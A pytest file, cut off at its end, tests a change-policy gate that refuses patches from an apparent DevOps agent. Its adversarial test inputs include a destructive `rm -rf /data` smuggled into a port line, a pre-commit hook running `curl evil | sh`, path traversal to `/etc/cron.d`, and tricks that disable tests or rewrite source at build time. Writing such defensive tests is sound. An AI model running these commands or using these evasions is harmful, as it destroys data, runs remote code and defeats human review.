"""The change policy: each rule refuses what it should and lets through what it should, citing its clause."""
from __future__ import annotations

import os
from pathlib import Path

import pytest

from agent.core.charter import parse_charter
from agent.example import init_example
from agent.gate.policy import (
    RULES, ProposalMeta, Refusal, concrete_rollback, evaluate, is_build_adjustment, policy_markdown,
)
from agent.session import open_session
from sources.git import run_git
from tools.changes import parse_patch

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "patches"
ROOT = Path(__file__).resolve().parent.parent.parent
SUBS = ["anime-saas-api", "anime-saas-front", "anime-saas-mlservice", "anime-saas-agent", "anime-saas-reverseproxy"]
GOOD = ProposalMeta(reason="Expose the API on the port nginx expects",
                    risk="The API is unreachable if nginx still points at 8080",
                    rollback="`git revert` the commit and `docker compose up -d anime-saas-api`")


@pytest.fixture(scope="module")
def example(tmp_path_factory) -> Path:
    return init_example(tmp_path_factory.mktemp("policy") / "platform")


@pytest.fixture(scope="module")
def session(example):
    return open_session(example, run_checks=False)


def check(session, text: str, meta: ProposalMeta = GOOD, release="current") -> list[Refusal]:
    patch = parse_patch(text)
    return evaluate(session.charter, patch, [], meta, session.release if release == "current" else release,
                    session.root)


def rules(refusals: list[Refusal]) -> list[str]:
    return [r.rule for r in refusals]


def diff_of(root: Path, rel: str, old: str, new: str) -> str:
    """A real git diff of one edit (submodule paths prefixed), the edit undone."""
    sub = next((s for s in SUBS if rel.startswith(s + "/")), None)
    cwd = root / sub if sub else root
    inner = rel[len(sub) + 1:] if sub else rel
    path = cwd / inner
    original = path.read_text()
    assert old in original, f"{old!r} not in {rel}"
    path.write_text(original.replace(old, new, 1))
    try:
        prefix = f"{sub}/" if sub else ""
        return run_git(["diff", "--no-ext-diff", f"--src-prefix=a/{prefix}", f"--dst-prefix=b/{prefix}", "--", inner], cwd)
    finally:
        path.write_text(original)


def add(path: str, *lines: str) -> str:
    body = "".join(f"+{l}\n" for l in lines)
    return f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n" \
           f"@@ -0,0 +1,{len(lines)} @@\n{body}"


# ---------------------------------------------------------------------------- catalogue

def test_every_rule_cites_a_clause_of_the_real_charter(session):
    charter = parse_charter(session.root / ".codex/agents/devops-engineer.md")
    for rule, (title, (key, words)) in RULES.items():
        assert charter.find_clause(key, words) is not None, (rule, words)
        assert title


def test_docs_are_generated_from_the_code(session):
    from agent.session import packaged_charter

    expected = policy_markdown(parse_charter(packaged_charter()))
    assert (ROOT / "docs/policy.md").read_text() == expected, \
        "regenerate: python -c 'from agent.gate.policy import *; ...' (see policy_markdown)"


def test_a_clean_infra_change_passes(session, example):
    text = diff_of(example, "anime-saas-api/Dockerfile", "EXPOSE 8080", "EXPOSE 8081")
    assert check(session, text) == []


# ---------------------------------------------------------------------------- POL001

@pytest.mark.parametrize("field, value, words", [
    ("rollback", "", "is empty"),
    ("rollback", "   ", "is empty"),
    ("reason", "TODO", "placeholder"),
    ("risk", "n/a", "placeholder"),
    ("risk", "Aucun", "placeholder"),
    ("rollback", "...", "placeholder"),
    ("rollback", "?", "placeholder"),
    ("reason", "idem", "placeholder"),
    ("risk", "-", "placeholder"),
    ("rollback", "revert", "single word"),
    ("reason", "fix it", "too short"),
])
def test_pol001_refuses_empty_or_placeholder_metadata(session, example, field, value, words):
    text = diff_of(example, "anime-saas-api/Dockerfile", "EXPOSE 8080", "EXPOSE 8081")
    meta = ProposalMeta(**{**GOOD.__dict__, field: value})
    refusals = [r for r in check(session, text, meta) if r.rule == "POL001"]
    assert len(refusals) == 1 and field in refusals[0].message and words in refusals[0].message
    assert "une raison, un risque, un rollback" in refusals[0].clause


# ---------------------------------------------------------------------------- POL002

def test_pol002_allows_infra_files(session):
    for path in ("docker-compose.override.yml", "anime-saas-front/Dockerfile.dev", "build/api.Dockerfile",
                 "anime-saas-api/.dockerignore", ".github/workflows/lint.yml", "config/x/.env.example",
                 "docs/runbook-cache.md", "anime-saas-agent/README.md"):
        assert "POL002" not in rules(check(session, add(path, "# note"))), path
    for path in ("anime-saas-reverseproxy/conf.d/x.conf", "nginx/site.conf"):  # nginx by parsing
        assert "POL002" not in rules(check(session, add(path, "location /api/ {", "    proxy_pass http://api:8080;",
                                                          "}"))), path


def test_pol002_refuses_application_code(session, example):
    text = diff_of(example, "anime-saas-mlservice/app/main.py", "def ", "def _unused():\n    return 1\n\n\ndef ")
    refusals = check(session, text)
    assert rules(refusals) == ["POL002"]
    assert refusals[0].path == "anime-saas-mlservice/app/main.py" and "not a build adjustment" in refusals[0].message
    assert "code applicatif" in refusals[0].clause


def test_pol002_refuses_schema_env_and_submodule_pointer(session):
    assert rules(check(session, "--- a/mysql/init/01-schema.sql\n+++ b/mysql/init/01-schema.sql\n@@ -1 +1 @@\n"
                                "-CREATE TABLE a (id INT);\n+CREATE TABLE a (id BIGINT);\n")) == ["POL002"]
    assert rules(check(session, "--- a/anime-saas-front/.env\n+++ b/anime-saas-front/.env\n@@ -1 +1 @@\n-A=1\n+A=2\n")) \
        == ["POL002"]
    pointer = ("diff --git a/anime-saas-api b/anime-saas-api\n--- a/anime-saas-api\n+++ b/anime-saas-api\n"
               "@@ -1 +1 @@\n-Subproject commit " + "1" * 40 + "\n+Subproject commit " + "2" * 40 + "\n")
    assert "submodule pointer" in check(session, pointer)[0].message


def py_edit(old: str, new: str) -> str:
    return f"--- a/anime-saas-mlservice/app/main.py\n+++ b/anime-saas-mlservice/app/main.py\n@@ -1 +1 @@\n-{old}\n+{new}\n"


BUILD_ADJUSTMENTS = [
    # Python, C#, TypeScript: ports, hosts, env variables, imports they need
    ('PORT = 5000', 'PORT = int(os.getenv("PORT", "5000"))'),
    ('uvicorn.run(app, host="127.0.0.1", port=5000)', 'uvicorn.run(app, host="0.0.0.0", port=5000)'),
    ('DB_URL = "mysql://localhost:3306/anime"', 'DB_URL = os.environ["DATABASE_URL"]'),
    ('builder.WebHost.UseUrls("http://localhost:5000");', 'builder.WebHost.UseUrls("http://0.0.0.0:8080");'),
    ('var cs = "Server=localhost;Port=3306";', 'var cs = builder.Configuration["ConnectionStrings:Default"];'),
    ('const apiBase = "http://localhost:8080"', 'const apiBase = process.env.API_URL ?? "http://localhost:8080"'),
    ('  devServer: { port: 3000 },', '  devServer: { port: 3001, host: "0.0.0.0" },'),
    ('# old comment', '# new comment'),
]

APPLICATION_CHANGES = [  # adversarial: look like configuration, are behaviour
    ('def recommend(user):', 'def recommend(user, limit=10):'),
    ('if os.getenv("DEBUG"):', 'if os.getenv("DEBUG") or True:'),
    ('port = 5000', 'port = 5000; os.system("rm -rf /data")'),
    ('PORT = 5000', 'PORT = eval(os.getenv("PORT"))'),
    ('builder.Host.UseSerilog();', 'builder.Host.UseNLog();'),
    ('app.MapGet("/anime", Handler);', 'app.MapDelete("/anime", Handler);'),
    ('const url = `${base}/anime`', 'const url = `${userId}/anime`'),
    ('#region config', '#if DEBUG'),
    ('port = 5000', 'return port'),
]


@pytest.mark.parametrize("old, new", BUILD_ADJUSTMENTS)
def test_pol002_accepts_build_adjustments(session, old, new):
    assert "POL002" not in rules(check(session, py_edit(old, new))), new


@pytest.mark.parametrize("old, new", APPLICATION_CHANGES)
def test_pol002_refuses_application_changes_dressed_as_config(session, old, new):
    assert "POL002" in rules(check(session, py_edit(old, new))), new


def test_pol002_real_port_edit_of_csharp_is_a_build_adjustment(session, example):
    program = (example / "anime-saas-api/AnimeSaasApi/Program.cs").read_text()
    line = next(l for l in program.splitlines() if "Build()" in l)
    text = diff_of(example, "anime-saas-api/AnimeSaasApi/Program.cs", line,
                   'builder.WebHost.UseUrls(Environment.GetEnvironmentVariable("ASPNETCORE_URLS") ?? "http://0.0.0.0:8080");\n'
                   + line)
    assert "POL002" not in rules(check(session, text))


def test_pol002_build_manifests(session, example):
    pkg = (example / "anime-saas-front/package.json").read_text()
    assert '"scripts"' in pkg and '"dependencies"' in pkg
    scripts = diff_of(example, "anime-saas-front/package.json", '"scripts": {', '"scripts": {\n    "start": "node .output/server/index.mjs",')
    assert "POL002" not in rules(check(session, scripts))
    dep = diff_of(example, "anime-saas-front/package.json", '"dependencies": {', '"dependencies": {\n    "left-pad": "1.3.0",')
    assert "POL002" in rules(check(session, dep))
    req = (example / "anime-saas-agent/requirements.txt").read_text().splitlines()[0]
    name = req.split("=")[0].split(">")[0]
    pin = diff_of(example, "anime-saas-agent/requirements.txt", req, f"{name}==99.0.0")
    assert "POL002" not in rules(check(session, pin))
    new_dep = diff_of(example, "anime-saas-agent/requirements.txt", req, f"{req}\nrequests==2.32.0")
    assert "POL002" in rules(check(session, new_dep))
    csproj = (example / "anime-saas-api/AnimeSaasApi/AnimeSaasApi.csproj").read_text()
    if "<TargetFramework>net8.0</TargetFramework>" in csproj:
        tf = diff_of(example, "anime-saas-api/AnimeSaasApi/AnimeSaasApi.csproj", "<TargetFramework>net8.0</TargetFramework>",
                     "<TargetFramework>net8.0</TargetFramework>\n    <RuntimeIdentifier>linux-musl-x64</RuntimeIdentifier>")
        assert "POL002" not in rules(check(session, tf))
    pkgref = diff_of(example, "anime-saas-api/AnimeSaasApi/AnimeSaasApi.csproj", "</Project>",
                     '<ItemGroup><PackageReference Include="Evil" Version="1.0.0" /></ItemGroup>\n</Project>')
    assert "POL002" in rules(check(session, pkgref))


def test_pol002_new_application_file_is_refused(session):
    assert rules(check(session, add("anime-saas-api/AnimeSaasApi/Admin.cs", "// port 8080"))) == ["POL002"]


# ---------------------------------------------------------------------------- POL003

def test_pol003_refuses_a_kubernetes_manifest(session):
    refusals = check(session, (FIXTURES / "k8s.diff").read_text())
    assert "POL003" in rules(refusals)
    r = next(r for r in refusals if r.rule == "POL003")
    assert r.path == "k8s/api-deployment.yaml" and "kubernetes" in r.message and "nouveaux outils" in r.clause


@pytest.mark.parametrize("text, tool", [
    (add("infra/main.tf", 'resource "null_resource" "x" {}'), "terraform"),
    (add("infra/prod.tfvars", 'region = "eu"'), "terraform"),
    (add("deploy/chart/Chart.yaml", "name: api") + add("deploy/chart/values.yaml", "replicas: 1"), "helm"),
    (add("kustomization.yaml", "resources: []"), "kubernetes"),
    (add("ops/any.yml", "apiVersion: v1", "kind: ConfigMap"), "kubernetes"),
    (add("config/vault/server.hcl", 'storage "file" {}'), "vault"),
    (add("docker-compose.monitoring.yml", "services:", "  grafana:", "    image: grafana/grafana:11.0.0"), "grafana"),
    (add("anime-saas-api/.github/workflows/obs.yml", "jobs:", "  x:", "    steps:",
         "      - run: docker run -d prom/prometheus"), "prometheus"),
    (add("scripts/ship.sh", "kubectl apply -f api.yaml"), "kubernetes"),
])
def test_pol003_refuses_new_tools(session, text, tool):
    refusals = [r for r in check(session, text) if r.rule == "POL003"]
    assert refusals and any(tool in r.message for r in refusals), [r.message for r in refusals]


def test_pol003_intention_must_be_in_the_release_validated_and_name_the_tool(session):
    grafana = add("docker-compose.monitoring.yml", "services:", "  grafana:", "    image: grafana/grafana:11.0.0")
    no = lambda intention: [r.message for r in check(session, grafana, ProposalMeta(**{**GOOD.__dict__,  # noqa: E731
                                                                                       "intention": intention}))
                            if r.rule == "POL003"]
    assert "not in the current release" in no("INT-99")[0]
    assert "not validated" in no("INT-15")[0]  # asks for Grafana, but only 'Proposée'
    assert "does not mention grafana" in no("INT-13")[0]
    release = session.release
    int15 = next(i for i in release.intentions if i.id == "INT-15")
    int15.validated, int15.status = True, "Validée"
    try:
        assert no("INT-15") == []
        assert no("int-15") == []
    finally:
        int15.validated, int15.status = False, "Proposée"
    assert "no current release" in [r.message for r in check(session, grafana, ProposalMeta(
        **{**GOOD.__dict__, "intention": "INT-15"}), release=None) if r.rule == "POL003"][0]


def test_pol003_existing_tool_line_edited_and_docs_are_not_new_tools(session):
    bump = ("--- a/docker-compose.monitoring.yml\n+++ b/docker-compose.monitoring.yml\n@@ -1 +1 @@\n"
            "-    image: grafana/grafana:11.0.0\n+    image: grafana/grafana:11.0.1\n")
    assert "POL003" not in rules(check(session, bump))
    assert "POL003" not in rules(check(session, add("docs/observability.md", "Prometheus is out of scope for the MVP.")))


# ---------------------------------------------------------------------------- POL004

@pytest.mark.parametrize("text", [
    add("docker-compose.staging.yml", "services: {}"),
    add(".env.staging", "A=1"),
    add("anime-saas-api/.github/workflows/deploy.yml", "on:", "  push:", "    branches: [staging]"),
    add("anime-saas-api/.github/workflows/qa.yml", "jobs:", "  deploy:", "    environment: qa"),
    add("anime-saas-front/.github/workflows/pre.yml", "jobs:", "  deploy-preprod:", "    runs-on: ubuntu-latest"),
])
def test_pol004_refuses_new_environments(session, text):
    refusals = [r for r in check(session, text) if r.rule == "POL004"]
    assert refusals and "new environment" in refusals[0].message and "staging" in refusals[0].clause


def test_pol004_allowed_only_by_a_validated_intention_asking_for_staging(session):
    text = add("docker-compose.staging.yml", "services: {}")
    release = session.release
    int13 = next(i for i in release.intentions if i.id == "INT-13")
    saved = dict(int13.fields)
    try:
        int13.fields["contraintes infra"] = "Pas de staging pour la bêta."  # a denial is not a request
        assert "POL004" in rules(check(session, text))
        int13.fields["contraintes infra"] = "Un environnement de staging pour tester la bêta."
        assert "POL004" not in rules(check(session, text))
    finally:
        int13.fields.clear()
        int13.fields.update(saved)


def test_pol004_ordinary_edits_are_not_environments(session, example):
    text = diff_of(example, "docker-compose.prod.yml", "restart: unless-stopped", "restart: always")
    assert "POL004" not in rules(check(session, text))


# ---------------------------------------------------------------------------- POL005

VAGUE = ["revert if needed", "on reviendra en arrière", "rollback the change if it breaks", "undo the deploy manually",
         # issue 23: "the previous version" of nothing named is no plan
         "Go back to the previous version if the deploy fails", "revenir à la version précédente si besoin",
         "roll back the change if it breaks", "undo the change"]
CONCRETE = ["`git revert HEAD` then `make prod`", "redeploy IMAGE_TAG_API=main-1a2b3c4", "docker compose up -d with the old tag",
            "restore the previous image tag", "remettre l'image précédente", "git revert 9af0dd2",
            "restore docker-compose.prod.yml from main", "go back to v0.4.0",
            # the change's own revert is what the gate's rollback runs
            "revert the commit in anime-saas-api to remove the Deploy to prod step", "annuler ce commit",
            "restore the previous anime-saas-api image", "put back the previous IMAGE_TAG_API"]


@pytest.mark.parametrize("rollback", VAGUE)
def test_pol005_refuses_vague_rollbacks_for_deploy_changes(session, example, rollback):
    text = diff_of(example, "docker-compose.prod.yml", "restart: unless-stopped", "restart: always")
    refusals = [r for r in check(session, text, ProposalMeta(**{**GOOD.__dict__, "rollback": rollback}))
                if r.rule == "POL005"]
    assert refusals and "names no command" in refusals[0].message and "rollback clair" in refusals[0].clause


@pytest.mark.parametrize("rollback", CONCRETE)
def test_pol005_accepts_concrete_rollbacks(rollback):
    assert concrete_rollback(rollback), rollback


@pytest.mark.parametrize("path, old, new", [
    ("Makefile", "prod", "prod "),
    ("docs/deploiement.md", "#", "# "),
    ("anime-saas-api/.github/workflows/ci.yml", "runs-on", "timeout-minutes: 30\n    runs-on"),
])
def test_pol005_triggers(session, example, path, old, new):
    text = diff_of(example, path, old, new)
    vague = ProposalMeta(**{**GOOD.__dict__, "rollback": "revert if needed"})
    if path.endswith("ci.yml"):  # a CI edit that does not deploy is not a deployment change
        assert "POL005" not in rules(check(session, text, vague))
    else:
        assert "POL005" in rules(check(session, text, vague))


def test_pol005_ci_deploy_step_and_compose_deploy_block(session):
    vague = ProposalMeta(**{**GOOD.__dict__, "rollback": "revert if needed"})
    ci = add("anime-saas-api/.github/workflows/deploy.yml", "jobs:", "  ship:", "    steps:",
             "      - run: ssh prod 'docker compose up -d'")
    assert "POL005" in rules(check(session, ci, vague))
    assert "POL005" not in rules(check(session, ci))
    block = add("docker-compose.override.yml", "services:", "  api:", "    deploy:", "      replicas: 2")
    assert "POL005" in rules(check(session, block, vague))


DEPLOY_BY_HAND = """name: Deploy
on:
  workflow_dispatch:
jobs:
  ship:
    runs-on: ubuntu-latest
    steps:
      - run: ssh deploy@prod 'cd /srv/anime && docker compose pull && docker compose up -d'
"""


def test_pol005_a_deploy_made_to_run_on_every_push_is_a_strategy_change(session, example):
    """Manual deploys (workflow_dispatch) to a deploy on every push: only the trigger lines change, and the charter
    asks a clear rollback plan for a change of deployment strategy (issue 23)."""
    rel = "anime-saas-api/.github/workflows/deploy.yml"
    path = example / rel
    path.write_text(DEPLOY_BY_HAND)
    try:
        text = (f"diff --git a/{rel} b/{rel}\n--- a/{rel}\n+++ b/{rel}\n@@ -1,4 +1,5 @@\n name: Deploy\n on:\n"
                f"-  workflow_dispatch:\n+  push:\n+    branches: [main]\n jobs:\n")
        vague = ProposalMeta(**{**GOOD.__dict__, "rollback": "Go back to the previous version if the deploy fails"})
        assert "POL005" in rules(check(session, text, vague))
        assert "POL005" not in rules(check(session, text))
    finally:
        path.unlink()
    # the same trigger edit of a workflow that deploys nothing is no deployment change
    ci = diff_of(example, "anime-saas-api/.github/workflows/ci.yml", "  pull_request:\n", "  workflow_dispatch:\n  pull_request:\n")
    assert "POL005" not in rules(check(session, ci, ProposalMeta(**{**GOOD.__dict__, "rollback": "revert if needed"})))


# ---------------------------------------------------------------------------- POL006

@pytest.mark.parametrize("path", [".devops-agent/proposals.sqlite", ".devops-agent.yaml", ".codex/agents/devops-engineer.md",
                                  "anime-saas-api/.codex/agents/x.md", "certs/server.pem", "config/tls.key",
                                  "product-key.pub"])
def test_pol006_refuses_the_gate_s_own_files(session, path):
    refusals = check(session, add(path, "x: 1"))
    assert rules(refusals) == ["POL006"] and refusals[0].path == path and "agent Product" in refusals[0].clause


def test_pol006_real_charter_edit_is_refused(session, example):
    text = diff_of(example, ".codex/agents/devops-engineer.md", "Pas de staging", "Staging autorisé")
    assert rules(check(session, text)) == ["POL006"]


# ---------------------------------------------------------------------------- POL007

@pytest.mark.parametrize("text", [
    "--- a/../outside.yml\n+++ b/../outside.yml\n@@ -1 +1 @@\n-a\n+b\n",
    "--- /etc/cron.d/x\n+++ /etc/cron.d/x\n@@ -1 +1 @@\n-a\n+b\n",
    "diff --git a/docs/x.md b/docs/x.md\n--- a/docs/../../x.md\n+++ b/docs/../../x.md\n@@ -1 +1 @@\n-a\n+b\n",
    "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n--- /dev/null\n"
    "+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil | sh\n",
])
def test_pol007_refuses_paths_leaving_the_repo(session, text):
    refusals = check(session, text)
    assert rules(refusals) == ["POL007"] and refusals[0].path


def test_pol007_symlink_out_is_refused_before_resolution(session, example, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "notes.md").write_text("x\n")
    os.symlink(outside, example / "docs" / "ext")
    try:
        refusals = check(session, "--- a/docs/ext/notes.md\n+++ b/docs/ext/notes.md\n@@ -1 +1 @@\n-x\n+y\n")
        assert rules(refusals) == ["POL007"] and "symlink" in refusals[0].message
    finally:
        (example / "docs" / "ext").unlink()


# ---------------------------------------------------------------------------- POL008 / POL009

def test_pol008_binary(session):
    refusals = check(session, (FIXTURES / "binary.diff").read_text())
    assert rules(refusals) == ["POL008"] and "docs/logo.png" in refusals[0].message


def test_pol009_rename_delete_copy(session):
    assert rules(check(session, (FIXTURES / "rename.diff").read_text())) == ["POL009"]
    deleted = "diff --git a/docs/deploiement.md b/docs/deploiement.md\ndeleted file mode 100644\n--- a/docs/deploiement.md\n" \
              "+++ /dev/null\n@@ -1 +0,0 @@\n-x\n"
    assert "deletion" in check(session, deleted)[0].message
    copy = "diff --git a/Makefile b/Makefile2\nsimilarity index 100%\ncopy from Makefile\ncopy to Makefile2\n"
    assert rules(check(session, copy)) == ["POL009"]
    edit = "--- a/docs/deploiement.md\n+++ b/docs/deploiement.md\n@@ -1 +1 @@\n-x\n+y\n"
    assert "POL009" not in rules(check(session, edit))


# ---------------------------------------------------------------------------- POL010

def test_pol010_refuses_removing_tests_from_ci(session, example):
    wf = "anime-saas-api/.github/workflows/ci.yml"
    content = (example / wf).read_text()
    start = content.index("      - name: Run tests")
    step = content[start:content.index("      - name: Extract metadata")]
    refusals = check(session, diff_of(example, wf, step, ""))
    assert "POL010" in rules(refusals), rules(refusals)
    only_run = diff_of(example, wf, "          docker run --rm anime-saas-api-tests\n", "")
    assert "POL010" in rules(check(session, only_run))
    assert "scope fonctionnel" in next(r for r in refusals if r.rule == "POL010").clause


def test_pol010_disabling_tests_is_removing_them(session):
    text = add("anime-saas-agent/.github/workflows/t.yml", "jobs:", "  t:", "    steps:",
               "      - run: pytest || true")
    assert "POL010" in rules(check(session, text))
    ok = add("anime-saas-agent/.github/workflows/t.yml", "jobs:", "  t:", "    steps:", "      - run: pytest -q")
    assert "POL010" not in rules(check(session, ok))


def test_pol010_moving_a_test_step_is_not_removing_it(session, example):
    wf = "anime-saas-api/.github/workflows/ci.yml"
    text = diff_of(example, wf, "runs-on", "timeout-minutes: 20\n    runs-on")
    assert "POL010" not in rules(check(session, text))


def test_refusals_are_one_line(session):
    text = (FIXTURES / "k8s.diff").read_text() + add(".devops-agent.yaml", "x") + (FIXTURES / "binary.diff").read_text()
    for r in check(session, text, ProposalMeta(reason="", risk="?", rollback="n/a")):
        assert "\n" not in r.message and r.rule in RULES and r.clause


def test_build_adjustment_needs_an_existing_file(session, example):
    patch = parse_patch(py_edit("PORT = 5000", 'PORT = os.getenv("PORT")'))
    assert is_build_adjustment(patch.files[0].path, patch.files[0], example)


# ---------------------------------------------------------------------------- item 7: evasions closed

def edit_of(path: str, old: list[str], new: list[str], context: list[str] = ()) -> str:
    """A one-hunk edit replacing `old` lines by `new` lines after `context` lines."""
    body = "".join(f" {l}\n" for l in context) + "".join(f"-{l}\n" for l in old) + "".join(f"+{l}\n" for l in new)
    n = len(context)
    return (f"diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n"
            f"@@ -1,{n + len(old)} +1,{n + len(new)} @@\n{body}")


def base_reader(files: dict[str, str]):
    return lambda path: files.get(path)


def check_base(session, text: str, files: dict[str, str], meta: ProposalMeta = GOOD, inventory=None) -> list[Refusal]:
    from tools import facts

    return evaluate(session.charter, parse_patch(text), [], meta, session.release, session.root,
                    read_base=base_reader(files), inventory=inventory or facts.inventory_from_sources(session.sources))


@pytest.mark.parametrize("path", ["deploy/hook.py", "scripts/migrate.ts", "deploy/Tools/Patch.cs", "scripts/seed.py"])
def test_pol002_a_folder_does_not_make_code_infra(session, path):
    refusals = check(session, add(path, "import os"))
    assert "POL002" in rules(refusals) and "not by its folder" in refusals[0].message


def test_pol002_shell_scripts_are_infra_only_when_they_run_docker(session):
    deploy = add("scripts/deploy.sh", "set -eu", "docker compose -f docker-compose.prod.yml pull",
                 "docker compose -f docker-compose.prod.yml up -d")
    assert "POL002" not in rules(check(session, deploy))
    assert "POL002" in rules(check(session, add("scripts/seed.sh", "python manage.py seed --users 100")))
    assert "POL002" in rules(check(session, add("scripts/note.sh", "echo 'then run docker compose up'")))
    assert "POL002" not in rules(check(session, add("anime-saas-api/docker-entrypoint.sh", 'exec "$@"')))


def test_pol002_a_change_cannot_turn_a_script_into_infra(session):
    files = {"scripts/seed.sh": "python manage.py seed\n"}
    text = edit_of("scripts/seed.sh", ["python manage.py seed"], ["python manage.py seed --all", "docker ps"])
    refusals = [r for r in check_base(session, text, files) if r.rule == "POL002"]
    assert refusals and "committed content is not" in refusals[0].message


MAKEFILE = "up:\n\tdocker compose up -d\n\ntest:\n\tpytest -q\n\nseed:\n\tpython manage.py seed\n"


def test_pol002_makefile_targets_that_call_docker_or_run_tests_are_infra(session):
    files = {"Makefile": MAKEFILE}
    docker = edit_of("Makefile", ["\tdocker compose up -d"], ["\tdocker compose up -d --wait"], ["up:"])
    assert check_base(session, docker, files) == []
    only_pytest = edit_of("Makefile", ["\tpytest -q"], ["\tpytest -q -x"], ["up:", "\tdocker compose up -d", "", "test:"])
    assert check_base(session, only_pytest, files) == []  # a test target is the test entry point; POL010 guards it
    app = edit_of("Makefile", ["\tpython manage.py seed"], ["\tpython manage.py seed --purge"],
                  ["up:", "\tdocker compose up -d", "", "test:", "\tpytest -q", "", "seed:"])
    refusals = check_base(session, app, files)
    assert rules(refusals) == ["POL002"] and "'seed'" in refusals[0].message
    disabled = edit_of("Makefile", ["\tpytest -q"], ["\tpytest -q || true"], ["up:", "\tdocker compose up -d", "", "test:"])
    assert "POL010" in rules(check_base(session, disabled, files))


DOCKERFILE = ("FROM python:3.12-slim\nWORKDIR /app\nCOPY app/ /app/\nRUN pip install -r requirements.txt\n"
              "CMD [\"uvicorn\", \"main:app\"]\n")


@pytest.mark.parametrize("line", [
    "RUN sed -i 's/limit=10/limit=1000/' /app/recommender.py",
    "RUN sed -i -e 's/DEBUG = False/DEBUG = True/' app/settings.py",
    "RUN echo 'def admin(): pass' >> main.py",
    "RUN printf 'x' | tee /app/main.py",
    "RUN perl -pi -e 's/a/b/' /src/Program.cs",
    "RUN cp /tmp/evil.py /app/main.py",
    "COPY fix.patch /app/",
    "RUN patch -p1 < fix.patch",
    "RUN git apply /tmp/fix.diff",
    "RUN sed -i 's/x/y/' /usr/share/nginx/html/index.html",
])
def test_pol002_build_time_rewrites_of_sources_are_refused(session, line):
    files = {"anime-saas-mlservice/Dockerfile": DOCKERFILE}
    text = edit_of("anime-saas-mlservice/Dockerfile", ["RUN pip install -r requirements.txt"],
                   ["RUN pip install -r requirements.txt", line], ["FROM python:3.12-slim", "WORKDIR /app", "COPY app/ /app/"])
    refusals = [r for r in check_base(session, text, files) if r.rule == "POL002"]
    assert refusals and ("rewrites application source" in refusals[0].message or "patch" in refusals[0].message), line
    assert "code applicatif" in refusals[0].clause


@pytest.mark.parametrize("line", [
    "RUN sed -i 's/listen 80/listen 8080/' /etc/nginx/conf.d/default.conf",
    "RUN echo 'daemon off;' >> /etc/nginx/nginx.conf",
    "RUN apt-get update && apt-get install -y --no-install-recommends curl > /dev/null 2>&1",
    'RUN pip install --no-cache-dir "fastapi>=0.110" && rm -rf /root/.cache',
])
def test_pol002_build_steps_on_system_config_are_infra(session, line):
    files = {"anime-saas-mlservice/Dockerfile": DOCKERFILE}
    text = edit_of("anime-saas-mlservice/Dockerfile", ["RUN pip install -r requirements.txt"],
                   ["RUN pip install -r requirements.txt", line], ["FROM python:3.12-slim", "WORKDIR /app", "COPY app/ /app/"])
    assert check_base(session, text, files) == [], line


TEST_IMAGE = ("FROM mcr.microsoft.com/dotnet/sdk:8.0 AS test-env\nWORKDIR /src\nCOPY . .\n"
              "CMD [\"dotnet\", \"test\", \"AnimeSaasApi.Tests/AnimeSaasApi.Tests.csproj\"]\n")


@pytest.mark.parametrize("new", [
    'CMD ["true"]',
    'CMD dotnet test AnimeSaasApi.Tests/AnimeSaasApi.Tests.csproj || true',
    'CMD ["dotnet", "test", "AnimeSaasApi.Tests/AnimeSaasApi.Tests.csproj", "--filter", "Category!=Slow"]',
    'CMD ["sh", "-c", "exit 0"]',
])
def test_pol010_tests_disabled_through_the_test_image_command(session, new):
    files = {"anime-saas-api/Dockerfile.test": TEST_IMAGE}
    old = 'CMD ["dotnet", "test", "AnimeSaasApi.Tests/AnimeSaasApi.Tests.csproj"]'
    text = edit_of("anime-saas-api/Dockerfile.test", [old], [new],
                   ["FROM mcr.microsoft.com/dotnet/sdk:8.0 AS test-env", "WORKDIR /src", "COPY . ."])
    refusals = [r for r in check_base(session, text, files) if r.rule == "POL010"]
    assert refusals and "scope fonctionnel" in refusals[0].clause, new


def test_pol010_appended_cmd_that_overrides_the_tests_is_refused(session):
    files = {"anime-saas-api/Dockerfile.test": TEST_IMAGE}
    text = ("--- a/anime-saas-api/Dockerfile.test\n+++ b/anime-saas-api/Dockerfile.test\n@@ -4,0 +5 @@\n"
            "+ENTRYPOINT [\"true\"]\n")
    assert "POL010" in rules(check_base(session, text, files))


@pytest.mark.parametrize("new", ["      - run: pytest -k 'not slow'", "      - run: npx vitest --passWithNoTests",
                                 "      - run: pytest --deselect tests/test_api.py"])
def test_pol010_narrowed_test_runs_in_ci(session, new):
    text = add("anime-saas-agent/.github/workflows/t.yml", "jobs:", "  t:", "    steps:", new)
    assert "POL010" in rules(check(session, text)), new


def test_pol010_rm_of_tests_in_a_build_is_refused(session):
    files = {"anime-saas-api/Dockerfile.test": TEST_IMAGE}
    text = edit_of("anime-saas-api/Dockerfile.test", ["COPY . ."], ["COPY . .", "RUN rm -rf AnimeSaasApi.Tests/Slow"],
                   ["FROM mcr.microsoft.com/dotnet/sdk:8.0 AS test-env", "WORKDIR /src"])
    assert "POL010" in rules(check_base(session, text, files))


@pytest.mark.parametrize("text, word", [
    (add("docker-compose.stg.yml", "services: {}"), "stg"),
    (add(".env.preprod.example", "A=1"), "preprod"),
    (add("scripts/deploy-uat.sh", "docker compose up -d"), "uat"),
    (add("docker-compose.override.yml", "services:", "  api:", "    image: nginx:1.27", "    profiles: [recette]"),
     "recette"),
    (add("docker-compose.override.yml", "services:", "  api:", "    image: nginx:1.27", "    profiles:",
         "      - pre-prod"), "pre-prod"),
    (add("anime-saas-api/.github/workflows/ship.yml", "jobs:", "  ship:", "    runs-on: ubuntu-latest",
         "    environment: {name: uat, url: 'https://u.example'}"), "uat"),
    (add("anime-saas-api/.github/workflows/ship.yml", "jobs:", "  deployStaging:", "    runs-on: ubuntu-latest"),
     "Staging"),
    (add("anime-saas-api/.github/workflows/ship.yml", "on: {push: {branches: [qa]}}", "jobs:", "  b:",
         "    runs-on: ubuntu-latest"), "qa"),
    (add("anime-saas-reverseproxy/conf.d/stg.conf", "server {", "    listen 80;", "    server_name stg.animesphere.fr;",
         "}"), "stg"),
])
def test_pol004_staging_synonyms(session, text, word):
    refusals = [r for r in check(session, text) if r.rule == "POL004"]
    assert refusals and "new environment" in refusals[0].message, word


@pytest.mark.parametrize("text", [
